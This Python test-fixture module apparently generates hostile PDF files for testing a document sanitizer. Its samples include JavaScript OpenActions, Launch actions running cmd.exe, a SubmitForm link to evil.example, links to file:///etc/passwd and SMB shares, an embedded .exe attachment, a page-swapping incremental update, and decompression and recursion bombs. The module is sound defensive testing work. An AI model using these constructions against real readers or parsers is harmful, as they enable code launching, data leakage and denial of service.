"""PDFs that wish us ill, made on the spot: each function gives the bytes of one."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Object


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS="app.alert('x')")


def paper(pages: int = 2) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    for number in range(1, pages + 1):
        pdf.add_blank_page(page_size=(595, 842))
        pdf.pages[-1].Contents = pdf.make_stream(b"BT (Trang %d) Tj ET" % number)
    return pdf


def written(pdf: pikepdf.Pdf, **how: Any) -> bytes:
    file = io.BytesIO()
    pdf.save(file, **how)
    return file.getvalue()


def plain(pages: int = 2) -> bytes:
    return written(paper(pages))


def word_document() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    return file.getvalue()


def with_javascript() -> bytes:
    pdf = paper()
    pdf.Root.OpenAction = pdf.make_indirect(script())
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["start", pdf.make_indirect(script())])))
    return written(pdf)


def with_javascript_spelt_otherwise() -> bytes:
    """Write a key with an escape: /Open#41ction is /OpenAction, and both are 13 bytes long."""
    pdf = paper()
    pdf.Root["/OpenABCction"] = script()
    return written(pdf, object_stream_mode=pikepdf.ObjectStreamMode.disable).replace(
        b"/OpenABCction", b"/Open#41ction"
    )


def with_everything_active() -> bytes:
    """Build a paper with each kind of active content, some of it hidden deep or chained."""
    pdf = paper()
    launch = Dictionary(S=Name.Launch, F="cmd.exe")
    hidden = pdf.make_indirect(
        Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=Array([launch, script()]))
    )
    pdf.Root.OpenAction = pdf.make_indirect(script())
    pdf.Root.AA = Dictionary(WC=script())
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["a", script()])))
    pdf.attachments["evil.exe"] = b"MZ" * 1000
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp/>"))
    page = pdf.pages[0]
    page.AA = Dictionary(O=script())
    page.Annots = Array([pdf.make_indirect(note) for note in notes(pdf, hidden)])
    pdf.Root.AcroForm.Fields.append(page.Annots[-1])
    pdf.pages[1].Contents = pdf.make_stream(b"", F="//10.0.0.9/share/page.txt")
    return written(pdf)


def notes(pdf: pikepdf.Pdf, hidden: Object) -> list[Dictionary]:
    def note(subtype: str, **more: Any) -> Dictionary:
        corners = Array([0, 0, 9, 9])
        return Dictionary(Type=Name.Annot, Subtype=Name(subtype), Rect=corners, **more)

    attached = Dictionary(Type=Name.Filespec, F="a", EF=Dictionary(F=pdf.make_stream(b"zz")))
    return [
        note("/Link", A=Dictionary(S=Name.Launch, F="calc")),
        note("/Link", A=Dictionary(S=Name.SubmitForm, F="http://evil.example")),
        note("/Link", A=Dictionary(S=Name("/NewInPdf3"))),
        note("/Link", A=Dictionary(S=Name.URI, URI="javascript:alert(1)")),
        note("/Link", A=Dictionary(S=Name.URI, URI="https://dienbien.gov.vn")),
        note("/Link", A=hidden),
        note("/FileAttachment", FS=attached),
        note("/RichMedia", RichMediaContent=Dictionary()),
        note("/Widget", AA=Dictionary(K=script()), FT=Name.Tx, T="name"),
    ]


def encrypted(user: str) -> bytes:
    return written(paper(), encryption=pikepdf.Encryption(owner="chủ", user=user))


def truncated() -> bytes:
    whole = plain(40)
    return whole[: len(whole) * 2 // 3]


def truncated_after_its_first_page() -> bytes:
    """Cut a linearised file: it has an end mark of its own close to its beginning."""
    whole = written(paper(400), linearize=True)
    return whole[: len(whole) // 2]


def with_a_hole() -> bytes:
    """Take bytes out of the middle: the end is there, the table of objects points nowhere."""
    whole = written(paper(40), object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return whole[: len(whole) // 4] + whole[len(whole) // 2 :]


def without_pages() -> bytes:
    return written(pikepdf.new())


def double_flate_bomb(size: int = 128 << 20) -> bytes:
    """Deflate zeros twice: less than a kilobyte that unfolds to 128 MiB."""
    pdf = paper(1)
    packed = zlib.compress(deflated_zeros(size), 9)
    pdf.pages[0].Contents = pdf.make_stream(packed, Filter=Array([Name.FlateDecode, Name.FlateDecode]))
    return written(pdf, compress_streams=False, recompress_flate=False)


def flate_bomb(size: int = 128 << 20) -> bytes:
    pdf = paper(1)
    pdf.pages[0].Contents = pdf.make_stream(deflated_zeros(size), Filter=Name.FlateDecode)
    return written(pdf, compress_streams=False, recompress_flate=False)


def deflated_zeros(size: int) -> bytes:
    packer, block = zlib.compressobj(9), bytes(1 << 20)
    return b"".join([packer.compress(block) for _ in range(size >> 20)]) + packer.flush()


def image_bomb() -> bytes:
    pdf = paper(1)
    pdf.pages[0].Resources = Dictionary(
        XObject=Dictionary(
            I=pdf.make_stream(
                b"",
                Type=Name.XObject,
                Subtype=Name.Image,
                Width=60_000,
                Height=60_000,
                BitsPerComponent=1,
                ColorSpace=Name.DeviceGray,
            )
        )
    )
    return written(pdf)


def too_many_pages() -> bytes:
    """Name one page 6,000 times; the tree itself is small."""
    pdf = paper(1)
    pdf.Root.Pages.Kids = Array([pdf.pages[0].obj] * 6_000)
    pdf.Root.Pages.Count = 6_000
    return written(pdf)


def object_stream_bomb(size: int = 900 << 20) -> bytes:
    """Hide the objects in a stream that any parser must unfold before it can look at one."""
    head = b"4 0 null"
    packer, block = zlib.compressobj(1), b" " * (1 << 20)
    packed = packer.compress(head)
    packed += b"".join([packer.compress(block) for _ in range(size >> 20)]) + packer.flush()
    file, places = io.BytesIO(), {}

    def put(number: int, content: bytes) -> None:
        places[number] = file.tell()
        file.write(b"%d 0 obj\n%s\nendobj\n" % (number, content))

    file.write(b"%PDF-1.7\n")
    put(1, b"<</Type/Catalog/Pages 2 0 R/X 4 0 R>>")
    put(2, b"<</Type/Pages/Kids[3 0 R]/Count 1>>")
    put(3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>")
    stream = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream"
    put(5, stream % (len(packed), packed))
    rows = [(0, 0, 65535), *((1, places[n], 0) for n in (1, 2, 3)), (2, 5, 0), (1, places[5], 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in [*rows, (1, file.tell(), 0)])
    start = file.tell()
    entry = b"<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Length %d>>stream\n%s\nendstream"
    put(6, entry % (len(table), table))
    file.write(b"startxref\n%d\n%%%%EOF" % start)
    return file.getvalue()


def signed(*, active: bool) -> bytes:
    """Write the dictionary of a signature; whether it verifies is not the cleaner's question."""
    pdf = paper()
    signature = Dictionary(
        Type=Name.Sig,
        Filter=Name("/Adobe.PPKLite"),
        ByteRange=Array([0, 100, 200, 300]),
        Contents=pikepdf.String(b"\x30\x82" * 40),
    )
    field = Dictionary(FT=Name.Sig, T="S1", V=pdf.make_indirect(signature))
    pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.make_indirect(field)]), SigFlags=3)
    if active:
        pdf.Root.OpenAction = pdf.make_indirect(script())
    return written(pdf)


def with_bookmarks() -> bytes:
    pdf = paper(5)
    with pdf.open_outline() as outline:
        part = pikepdf.OutlineItem("Phần I. Kết quả", 0)
        part.children.append(pikepdf.OutlineItem("1. Thu ngân sách", 2))
        outline.root += [part, pikepdf.OutlineItem("Phần II. Nhiệm vụ", 4)]
    return written(pdf)


# -- the twenty of test_hostile.py --------------------------------------------------------------------


def assembled(objects: dict[int, bytes], *, root: int = 1, tail: bytes = b"") -> bytes:
    """Write objects by hand, with a table of them, as no library would."""
    file, places = io.BytesIO(), {}
    file.write(b"%PDF-1.7\n")
    for number, content in objects.items():
        places[number] = file.tell()
        file.write(b"%d 0 obj\n%s\nendobj\n" % (number, content))
    start, size = file.tell(), max(objects) + 1
    file.write(b"xref\n0 %d\n0000000000 65535 f \n" % size)
    for number in range(1, size):
        file.write(b"%010d 00000 %s \n" % (places.get(number, 0), b"n" if number in places else b"f"))
    file.write(b"trailer\n<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size, root, start))
    return file.getvalue() + tail


def one_page(page: bytes = b"/MediaBox[0 0 595 842]", **more: bytes) -> dict[int, bytes]:
    return {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R%s>>" % page,
    }


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (entries, len(content), content)


def cyclic_page_tree() -> bytes:
    """Let a branch of the tree be its own child."""
    return assembled(one_page() | {2: b"<</Type/Pages/Kids[3 0 R 2 0 R]/Count 2>>"})


def stream_of_ten_gigabytes() -> bytes:
    """Say that ten gigabytes follow, in a file of a kilobyte."""
    said = b"<</Length 10737418240>>stream\nBT ET\nendstream"
    return assembled(one_page(b"/MediaBox[0 0 595 842]/Contents 4 0 R") | {4: said})


def negative_box() -> bytes:
    return assembled(one_page(b"/MediaBox[595 842 -595 -842]/CropBox[0 0 -100 -100]"))


def missing_fonts() -> bytes:
    text = stream(b"BT /F1 12 Tf 100 700 Td (Trang) Tj /F2 12 Tf (khong co phong) Tj ET")
    fonts = b"/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 9 0 R>>>>"
    return assembled(one_page(fonts) | {4: text})


def embedded_program() -> bytes:
    pdf = paper()
    pdf.attachments["hoa-don.pdf.exe"] = b"MZ" * 1000
    return written(pdf)


def launching() -> bytes:
    pdf = paper()
    pdf.Root.OpenAction = Dictionary(S=Name.Launch, Win=Dictionary(F="cmd.exe", P="/c calc"))
    return written(pdf)


def xfa_form() -> bytes:
    pdf = paper()
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp/>"))
    pdf.Root.NeedsRendering = True
    return written(pdf)


def garbage_after_the_end() -> bytes:
    return plain() + b"<script>alert(1)</script>" * 40


def a_hundred_thousand_pages() -> bytes:
    """Lead to the same page by five levels of ten: the file is of a kilobyte."""
    objects = {1: b"<</Type/Catalog/Pages 2 0 R>>", 9: b"<</Type/Page/Parent 6 0 R/MediaBox[0 0 9 9]>>"}
    for level in range(2, 7):
        child = 9 if level == 6 else level + 1
        kids, count = b"%d 0 R " % child * 10, 10 ** (7 - level)
        objects[level] = b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count)
    return assembled(objects)


def page_of_two_hundred_metres() -> bytes:
    return assembled(one_page(b"/MediaBox[0 0 566929 566929]/UserUnit 1"))


def corrupted_table() -> bytes:
    """Let every object be said to stand a few bytes off."""
    whole = assembled(one_page())
    head, table = whole.split(b"xref\n", 1)
    return head + b"xref\n" + table.replace(b" 00000 n", b" 00000 n", 1).replace(b"0000000", b"0000007")


def update_that_hides() -> bytes:
    """Append an update that swaps the page for another: only the last state may count."""
    first = assembled(
        one_page(b"/MediaBox[0 0 595 842]/Contents 4 0 R") | {4: stream(b"BT (Ban da ky) Tj ET")}
    )
    start = int(first.rsplit(b"startxref\n", 1)[1].split()[0])
    at = len(first)
    script_page = (
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/AA<</O<</S/JavaScript/JS(app.alert\\(1\\))>>>>>>"
    )
    update = b"3 0 obj\n%s\nendobj\n" % script_page
    table = b"xref\n3 1\n%010d 00000 n \ntrailer\n<</Size 5/Root 1 0 R/Prev %d>>\n" % (at, start)
    return first + update + table + b"startxref\n%d\n%%%%EOF\n" % (at + len(update))


def deep_nesting(depth: int = 100_000) -> bytes:
    return assembled(one_page(b"/MediaBox[0 0 595 842]/X " + b"[" * depth + b"]" * depth))


def recursive_font() -> bytes:
    """Let the one letter of a font be drawn by that letter itself."""
    letter = stream(b"100 0 0 0 100 100 d1 BT /F1 1 Tf (a) Tj ET")
    font = (
        b"<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 0 0 1 0 0]/FirstChar 97/LastChar 97"
        b"/Widths[1]/Encoding<</Differences[97/a]>>/CharProcs<</a 6 0 R>>/Resources<</Font<</F1 5 0 R>>>>>>"
    )
    page = b"/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>"
    return assembled(one_page(page) | {4: stream(b"BT /F1 12 Tf (aaaa) Tj ET"), 5: font, 6: letter})


def form_that_draws_itself() -> bytes:
    form = stream(
        b"/X Do /X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>"
    )
    page = b"/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>"
    return assembled(one_page(page) | {4: stream(b"/X Do"), 5: form})


def forms_that_multiply(levels: int = 10) -> bytes:
    """Draw ten forms that draw ten each, ten levels deep."""
    page = b"/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>"
    objects = one_page(page) | {4: stream(b"/X Do")}
    for level in range(levels):
        number, last = 5 + level, level == levels - 1
        inner = b"" if last else b"/Resources<</XObject<</X %d 0 R>>>>" % (number + 1)
        drawn = b"0 0 1 1 re f" if last else b"/X Do " * 10
        objects[number] = stream(drawn, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]" + inner)
    return assembled(objects)


def external_references() -> bytes:
    """Point out of the file in every way: a program, a share, a page of another file, a thread of one."""
    pdf = paper()
    corners = Array([0, 0, 9, 9])

    def link(**action: Any) -> Object:
        return pdf.make_indirect(
            Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=corners, A=Dictionary(**action))
        )

    remote = Dictionary(Type=Name.Filespec, F="//10.0.0.9/share/other.pdf")
    pdf.pages[0].Annots = Array(
        [
            link(S=Name.URI, URI="file:///etc/passwd"),
            link(S=Name.URI, URI="smb://10.0.0.9/share"),
            link(S=Name.GoToR, F=remote, D=Array([0, Name.Fit])),
            link(S=Name.Thread, F=remote, D=0),
        ]
    )
    shown = Dictionary(F=remote, Page=0)
    referring = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=corners, Ref=shown)
    elsewhere = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1, F=remote)
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(A=referring, B=elsewhere))
    return written(pdf)
